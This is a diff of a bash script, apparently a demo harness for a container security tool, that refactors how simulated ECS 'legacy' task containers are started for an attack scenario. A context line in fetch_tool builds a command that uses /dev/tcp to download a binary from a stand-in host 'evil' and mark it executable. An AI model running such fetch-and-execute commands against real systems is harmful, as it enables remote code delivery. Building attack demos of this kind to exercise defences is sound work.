@@ -85,19 +85,26 @@ fetch_tool() {
 	printf %s "bash -c 'exec 3<>/dev/tcp/evil/80; printf \"GET /tool HTTP/1.0\r\n\r\n\" >&3; sed \"1,/^.\$/d\" <&3 >$1; chmod +x $1'"
 }
 
-# bring ARGUMENT… starts a container for the attack, a task of the family
-# "legacy" with these arguments to docker run, and sets $brought to its id.
-bring() {
+# legacy ARGUMENT… starts a container, a task of the family "legacy" with these
+# arguments to docker run, and sets $started to its id, or to why there is none.
+legacy() {
 	local name
 	name=ecs-legacy-1-legacy-$(random_hex 10)
 	later "docker rm -fv $name"
-	brought=$(docker run --detach --pull=never --name "$name" --network castellan-demo \
+	started=$(docker run --detach --pull=never --name "$name" --network castellan-demo \
 		--label castellan.demo=attack --label com.amazonaws.ecs.cluster=shop \
 		--label com.amazonaws.ecs.task-arn="arn:aws:ecs:eu-central-1:123456789012:task/shop/$(random_hex 16)" \
 		--label com.amazonaws.ecs.task-definition-family=legacy --label com.amazonaws.ecs.task-definition-version=1 \
-		--label com.amazonaws.ecs.container-name=legacy --cpus=0.5 --memory=64m --memory-swap=64m --pids-limit=64 \
-		--entrypoint sleep "$@" "$debian" 90 2>&1) && return
-	problem=$brought
+		--label com.amazonaws.ecs.container-name=legacy --cpus=0.5 --memory=64m --memory-swap=64m --pids-limit=64 "$@" 2>&1)
+}
+
+# bring ARGUMENT… starts such a container for the attack, and sets $brought to its id.
+bring() {
+	if legacy --entrypoint sleep "$@" "$debian" 90; then
+		brought=$started
+		return
+	fi
+	problem=$started
 	return 1
 }
 
